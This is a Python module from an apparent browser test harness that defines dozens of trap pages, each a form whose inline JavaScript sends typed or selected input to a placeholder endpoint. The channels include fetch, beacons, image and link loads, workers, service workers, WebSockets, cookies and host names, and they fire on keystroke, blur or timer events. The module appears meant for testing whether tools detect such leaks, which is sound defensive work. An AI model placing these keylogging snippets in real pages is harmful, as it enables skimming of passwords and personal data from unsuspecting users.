"""Forms that send what somebody types or chooses, each set off by another event and leaving by another way."""

from testbed.traps.trap import CANARY, Origin, Page, Trap, form, sends_when, trap

_GET = "fetch('@d@?v='+encodeURIComponent(v))"


def _link(rel: str, extra: str = "") -> str:
    return f"const l=document.createElement('link');l.rel='{rel}';l.href='@d@?v='+v;{extra}document.head.append(l)"


def _element(tag: str, attribute: str) -> str:
    return f"const e=document.createElement('{tag}');e.{attribute}='@d@?v='+v;document.body.append(e)"


_BY_EVENT = {
    "typedinput": ("input", _GET, "asks by GET with what was typed"),
    "typedkeydown": ("keydown", "new Image().src='@d@?v='+v", "loads a picture with each key"),
    "typedkeyup": ("keyup", "navigator.sendBeacon('@d@',v)", "sends a beacon after each key"),
    "typedbefore": ("beforeinput", _GET, "asks by GET before a letter is put in"),
    "typedselection": ("selectionchange", _GET, "asks when the caret moves"),
    "typedchange": (
        "change",
        "const x=new XMLHttpRequest();x.open('GET','@d@?v='+v);x.send()",
        "asks when a field has another value",
    ),
    "typedfocusin": (
        "focusin",
        "HTMLFormElement.prototype.submit.call(f)",
        "submits its GET form when a field takes the focus",
    ),
    "typedblur": ("blur", "fetch('@d@',{method:'POST',body:v,keepalive:true})", "posts when a field loses the focus"),
    "typedsync": (
        "input",
        "const x=new XMLHttpRequest();x.open('POST','@d@',false);x.send(v)",
        "posts by a synchronous XMLHttpRequest while the key is handled",
    ),
    "typedtimer": ("input", "setTimeout(()=>" + _GET + ",700)", "asks a while after something was typed"),
    "typedidle": ("input", "requestIdleCallback(()=>" + _GET + ")", "asks when it has nothing else to do"),
    "typedinterval": (
        "input",
        "setInterval(()=>fetch('@d@?v='+v).catch(()=>0),150)",
        "asks again and again until an answer comes",
    ),
    "typedprefetch": ("input", _link("prefetch"), "has an address with the value fetched ahead"),
    "typedpreload": ("input", _link("preload", "l.as='image';"), "has an address with the value preloaded"),
    "typedmodulepreload": ("input", _link("modulepreload"), "has a module's address with the value preloaded"),
    "typedstyle": ("input", _link("stylesheet"), "links a style sheet whose address holds the value"),
    "typedimport": (
        "input",
        "const s=document.createElement('style');s.textContent=`@import '@d@?v=${v}'`;document.head.append(s)",
        "imports a style sheet whose address holds the value",
    ),
    "typedsrcset": ("input", _element("img", "srcset"), "gives a picture a srcset with the value"),
    "typedposter": ("input", _element("video", "poster"), "gives a film a poster with the value"),
    "typedaudio": ("input", _element("audio", "src"), "gives a sound an address with the value"),
    "typedframe": ("input", _element("iframe", "src"), "loads a frame with the value"),
    "typedobject": ("input", _element("object", "data"), "loads an object with the value"),
    "typedembed": ("input", _element("embed", "src"), "loads an embed with the value"),
    "typedscript": ("input", _element("script", "src"), "loads a script with the value"),
    "typedmodule": ("input", "import('@d@?v='+v).catch(()=>0)", "imports a module with the value"),
    "typedmap": (
        "input",
        "const s=document.createElement('script');s.type='importmap';s.textContent=JSON.stringify({imports:{x:'@d@?v='+v}});"
        "document.head.append(s);import('x').catch(()=>0)",
        "maps a module's name to an address with the value",
    ),
    "typedstream": ("input", "new EventSource('@d@?v='+v)", "opens an event stream with the value"),
    "typedlocation": ("input", "location='@d@?v='+v", "goes to an address with the value"),
    "typednavigation": ("input", "navigation.navigate('@d@?v='+v)", "goes there by the Navigation API"),
    "typedsvg": (
        "input",
        "const e=document.createElementNS('http://www.w3.org/2000/svg','svg');e.innerHTML=`<image href='@d@?v=${v}'/>`;"
        "document.body.append(e)",
        "draws an SVG picture whose address holds the value",
    ),
    "typedinsert": (
        "input",
        "document.body.insertAdjacentHTML('beforeend',`<input type=image src='@d@?v=${v}'>`)",
        "draws a button's picture",
    ),
    "typedxslt": (
        "input",
        "const e=document.createElement('iframe');e.srcdoc=`<img src='@d@?v=${v}'>`;document.body.append(e)",
        "writes a frame whose picture's address holds the value",
    ),
    "typedpopup": ("input", "open('@d@?v='+v)", "opens a window with the value"),
    "typedfont": ("input", "new FontFace('x',`url(@d@?v=${v})`).load().catch(()=>0)", "loads a font with the value"),
    "typedhead": ("input", "fetch('@d@?v='+v,{method:'HEAD'})", "asks by HEAD with the value"),
}

TRAPS: tuple[Trap, ...] = (
    trap(
        "g38",
        "what is typed leaves in a picture's address, key by key",
        form(script=sends_when("input", "new Image().src='@d@?o='+v")),
    ),
    *(
        trap(
            name, does, form(attributes="action='@d@/luu'" if "submit" in send else "", script=sends_when(event, send))
        )
        for name, (event, send, does) in _BY_EVENT.items()
    ),
    trap(
        "typedcomposed",
        "asks when an input method has composed a letter",
        form(script=sends_when("compositionend", _GET)),
        careless=("compose",),
    ),
    trap(
        "chosen",
        "asks by GET when another entry of a list is chosen",
        form(
            inside="<select id=s><option value=''>Chọn<option value=1>A<option value=2>B</select>",
            script="s.onchange=()=>fetch('@d@?o='+s.value)",
        ),
    ),
    trap(
        "chosenform",
        "a list's own handler sends the form",
        form(
            attributes="action='@d@#x'",
            inside="<select id=s onchange='HTMLFormElement.prototype.submit.call(this.form)'><option value=0>Chọn<option value=2>B</select>",
        ),
    ),
    trap(
        "typedcookie",
        "what is typed goes as a cookie with the next picture",
        form(
            script=sends_when(
                "input", f"document.cookie='o={CANARY}'+v+';path=/';new Image().src='@at@/pixel.png?'+Math.random()"
            )
        ),
    ),
    trap(
        "typedheader",
        "what is typed goes in a header of an ordinary question",
        form(script=sends_when("input", f"fetch('@at@/danh-muc',{{headers:{{'x-typed':'{CANARY}'+v}}}})")),
        more={"danh-muc": "[]"},
    ),
    trap(
        "typedhost",
        "what is typed stands in the name of a host that a picture comes from",
        form(
            script=sends_when(
                "input",
                "new Image().src='http://v-'+v[0]+'.typedhost.portal.test:@tcp@/x.png'",
            )
        ),
        extra_hosts=("v-1",),
    ),
    trap(
        "typedconnect",
        "what is typed stands in the name of a host that is connected to ahead",
        form(
            script=sends_when(
                "input",
                "const l=document.createElement('link');l.rel='preconnect';l.href='https://v-'+v[0]+'.typedconnect.portal.test:@tcp@';"
                "document.head.append(l)",
            )
        ),
        extra_hosts=("v-1",),
        unproved="a headless browser connects to nothing ahead",
    ),
    trap(
        "typedworker",
        "a worker that was there before is told what is typed, and asks",
        form(
            script="const w=new Worker(URL.createObjectURL(new Blob([`onmessage=e=>fetch('@d@?v='+e.data)`])));"
            + sends_when("input", "w.postMessage(v)")
        ),
    ),
    trap(
        "typedsharedworker",
        "a shared worker is told what is typed, and asks",
        form(
            script="const w=new SharedWorker(URL.createObjectURL(new Blob([`onconnect=e=>e.ports[0].onmessage=m=>fetch('@d@?v='+m.data)`])));"
            + sends_when("input", "w.port.postMessage(v)")
        ),
    ),
    trap(
        "typedserviceworker",
        "a service worker is told what is typed, and asks",
        form(
            script="navigator.serviceWorker.register('@at@/sw.js',{scope:'/'});"
            + sends_when("input", "navigator.serviceWorker.ready.then(r=>r.active.postMessage(v))")
        ),
        more={"sw.js": Page(text="onmessage=e=>e.waitUntil(fetch('@d@?v='+e.data))", media_type="text/javascript")},
        origin=Origin.SECURE,
    ),
    trap(
        "typedpaint",
        "a paint worklet's module has the value in its address",
        form(script=sends_when("input", "CSS.paintWorklet.addModule('@d@?v='+v).catch(()=>0)")),
        origin=Origin.SECURE,
    ),
    trap(
        "typedsound",
        "an audio worklet's module has the value in its address",
        form(
            script=sends_when(
                "input", "new OfflineAudioContext(1,1,44100).audioWorklet.addModule('@d@?v='+v).catch(()=>0)"
            )
        ),
        origin=Origin.SECURE,
    ),
    trap(
        "typedrelay",
        "a frame of another site is told what is typed, and sends its form",
        form(
            after="<iframe id=i src='@other@/inner'></iframe>",
            script=sends_when("input", "i.contentWindow.postMessage(v,'*')"),
        ),
        more={
            "inner": "<form action='@d@'><input name=v></form><script>onmessage=e=>{document.forms[0].v.value=e.data;document.forms[0].submit()}</script>"
        },
    ),
    trap(
        "typedopen",
        "a socket that was open before is sent what is typed",
        form(script="const s=new WebSocket('@ws@');" + sends_when("input", "s.send(v)")),
    ),
    trap(
        "typedlater",
        "what is typed is queued by GET for when the page goes",
        form(script=sends_when("input", "fetchLater('@d@?v='+v)")),
        origin=Origin.SECURE,
        careless=("type", "leave"),
    ),
    trap(
        "typedcall",
        "a datagram goes to a server of the page's once something is typed",
        form(
            script=sends_when(
                "input",
                "const c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:@udp@'}]});c.createDataChannel('x');"
                "c.createOffer().then(o=>c.setLocalDescription(o))",
            )
        ),
    ),
    trap(
        "typedicon",
        "the page's icon gets an address with the value",
        form(script=sends_when("input", _link("icon"))),
        unproved="a headless browser loads no icons",
    ),
    trap(
        "typedmanifest",
        "the page's manifest gets an address with the value",
        form(script=sends_when("input", _link("manifest"))),
        unproved="a headless browser reads no manifest by itself",
    ),
)
